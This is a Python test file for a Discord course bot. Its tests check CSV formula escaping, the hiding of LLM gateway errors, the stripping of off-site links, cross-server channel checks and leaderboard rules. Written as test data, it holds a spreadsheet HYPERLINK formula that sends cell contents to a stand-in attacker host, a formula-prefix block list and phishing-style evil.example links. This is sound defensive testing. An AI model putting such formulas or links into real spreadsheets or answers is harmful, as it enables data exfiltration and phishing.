"""Through the real command tree: bad weeks are refused in words, reports cannot carry live formulas,
the LLM's error text and foreign links never reach a public answer, boards post only to this server's
channels, and the leaderboard counts only completion that reading or a quiz backs (unless staff say
otherwise)."""

from __future__ import annotations

import csv
import io
import logging

import httpx2

from core.answers.llm import GroundedLlm
from core.app import App
from tests.answers.messages_api import stream_events
from tests.bot.harness import (
    CHANNEL_ID,
    GUILD_ID,
    INSTRUCTOR,
    OTHER_STUDENT,
    BotHarness,
    Channel,
    Person,
)

ZMP = "What is the zero moment point?"
FOREIGN_GUILD = "799999999999999999"
FOREIGN_CHANNEL = "769999999999999999"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _answer(calls):
    return [c for c in calls if c.path.startswith("/webhooks") and c.embeds][-1]


def _llm(reply) -> GroundedLlm:
    return GroundedLlm(
        api_key="test",
        model="claude-test",
        base_url="http://llm.invalid",
        max_retries=0,
        http_client=httpx2.AsyncClient(transport=httpx2.MockTransport(reply)),
    )


# weeks -------------------------------------------------------------------------------------------


async def test_a_far_past_week_is_refused_in_words(discord_bot: BotHarness, book_app: App, course) -> None:
    await book_app.courses.configure(course.slug, leaderboard_day=6)
    await discord_bot.send(discord_bot.slash("complete", unit="week-1"))
    calls = await discord_bot.send(discord_bot.slash("leaderboard", week="0001-01-01"))
    last = calls[-1]
    assert last.ephemeral and "is not a week" in last.content, last.content
    assert "something went wrong" not in last.content.lower()


# CSV reports -------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"What is the ZMP? click")'


async def test_report_cells_cannot_be_formulas(discord_bot: BotHarness, book_app: App, course) -> None:
    mallory = Person("800000000000000066", "@SUM(1+1)")
    await discord_bot.send(discord_bot.slash("ask", question=FORMULA, person=mallory))
    await discord_bot.send(discord_bot.slash("complete", unit="week-1", person=mallory))
    calls = await discord_bot.send(discord_bot.slash("class", sub="report", person=INSTRUCTOR, kind="all"))
    files = dict(calls[-1].files)
    questions = list(csv.DictReader(io.StringIO(files["sample-questions.csv"].decode())))
    assert [r["question"] for r in questions] == ["'" + FORMULA]
    progress = list(csv.DictReader(io.StringIO(files["sample-progress.csv"].decode())))
    assert {r["student"] for r in progress} == {"'@SUM(1+1)"}
    for name, data in files.items():
        for row in csv.reader(io.StringIO(data.decode())):
            assert not any(cell.startswith(DANGEROUS) for cell in row), (name, row)


# the LLM's words ---------------------------------------------------------------------------------


async def test_the_gateways_error_text_is_logged_not_shown(
    discord_bot: BotHarness, book_app: App, caplog
) -> None:
    secret = "gateway: key None for org org-internal-42 has no access to model claude-secret"

    def rejected(request: httpx2.Request) -> httpx2.Response:
        return httpx2.Response(
            400, json={"type": "error", "error": {"type": "invalid_request_error", "message": secret}}
        )

    llm = _llm(rejected)
    book_app.answers = book_app.answers.using(llm=llm)
    with caplog.at_level(logging.WARNING):
        calls = await discord_bot.send(discord_bot.slash("ask", question=ZMP))
    await llm.close()
    reply = _answer(calls)
    assert "org-internal-42" not in reply.text() and "HTTP 400" not in reply.text()
    assert "The AI model is unavailable right now" in reply.embeds[0]["footer"]["text"]
    assert "org-internal-42" in caplog.text  # the operator still learns why


async def test_masked_links_off_the_book_are_dropped_from_public_answers(
    discord_bot: BotHarness, book_app: App
) -> None:
    await book_app.courses.configure("sample", book_url="https://book.example/docs/")
    text = (
        "Read [the official notes](https://evil.example/login) and [chapter 1]"
        "(https://book.example/docs/01-foundations/balance-and-zmp#zmp)"
        ' or [this](<http://evil.example/x> "t").'
    )
    chunks = stream_events([text[:40], text[40:]], [], input_tokens=10, output_tokens=10)

    def answer(request: httpx2.Request) -> httpx2.Response:
        return httpx2.Response(200, content=b"".join(chunks), headers={"content-type": "text/event-stream"})

    llm = _llm(answer)
    book_app.answers = book_app.answers.using(llm=llm)
    calls = await discord_bot.send(discord_bot.slash("ask", question=ZMP))
    await llm.close()
    shown = " ".join(c.text() for c in calls)
    assert "evil.example" not in shown
    description = _answer(calls).embeds[0]["description"]
    assert "the official notes" in description and "this" in description
    assert "[chapter 1](https://book.example/docs/01-foundations/balance-and-zmp#zmp)" in description


# channels of another server ----------------------------------------------------------------------


async def test_class_leaderboard_posts_only_to_this_servers_channels(discord_bot: BotHarness) -> None:
    discord_bot.http.channel_guilds[FOREIGN_CHANNEL] = FOREIGN_GUILD
    calls = await discord_bot.send(
        discord_bot.slash("class", sub="leaderboard", person=INSTRUCTOR, channel=Channel(FOREIGN_CHANNEL))
    )
    assert not [c for c in calls if c.path == f"/channels/{FOREIGN_CHANNEL}/messages"]
    assert calls[-1].ephemeral and "not a channel of this server" in calls[-1].content


async def test_class_leaderboard_still_posts_to_this_servers_channel(discord_bot: BotHarness) -> None:
    calls = await discord_bot.send(
        discord_bot.slash("class", sub="leaderboard", person=INSTRUCTOR, channel=Channel(CHANNEL_ID))
    )
    assert [c for c in calls if c.path == f"/channels/{CHANNEL_ID}/messages"]


async def test_course_config_refuses_another_servers_channel(discord_bot: BotHarness, book_app: App) -> None:
    discord_bot.http.channel_guilds[FOREIGN_CHANNEL] = FOREIGN_GUILD
    calls = await discord_bot.send(
        discord_bot.slash(
            "course", sub="config", person=INSTRUCTOR, leaderboard_channel=Channel(FOREIGN_CHANNEL)
        )
    )
    assert calls[-1].ephemeral and "not a channel of this server" in calls[-1].content
    binding = await book_app.courses.binding(GUILD_ID)
    assert binding.leaderboard_channel_id != FOREIGN_CHANNEL


# honest boards -----------------------------------------------------------------------------------


async def _board_text(discord_bot: BotHarness) -> str:
    calls = await discord_bot.send(discord_bot.slash("leaderboard"))
    return next(c for c in calls if c.embeds).text()


async def test_self_marked_units_do_not_count_on_the_board_by_default(
    discord_bot: BotHarness, book_app: App, course, clock
) -> None:
    units = await book_app.tracking.units(course)
    for unit in units:  # Ada marks everything, reads nothing
        await discord_bot.send(discord_bot.slash("complete", unit=unit.id))
    grace = await book_app.accounts.resolve("discord", OTHER_STUDENT.id, OTHER_STUDENT.name)
    await book_app.accounts.enroll(grace.id, course.id)
    await book_app.tracking.record_reading(grace, course, units[0].chapters[0], 100)
    text = await _board_text(discord_bot)
    assert text.index("**#1** Grace") < text.index("**#2** Ada"), text

    # Ada's own view still shows what she marked.
    mine = " ".join(c.text() for c in await discord_bot.send(discord_bot.slash("progress")))
    assert "**100%** of the course done" in mine
    assert "done (you marked it: it counts on the leaderboard once you read it or take its quiz)" in mine

    saved = await discord_bot.send(
        discord_bot.slash("course", sub="config", person=INSTRUCTOR, self_marked_counts=True)
    )
    assert "Saved 1 setting" in saved[-1].content
    clock.advance(minutes=1)  # Ada may post the public board once a minute
    text = await _board_text(discord_bot)
    assert text.index("**#1** Ada") < text.index("**#2** Grace"), text
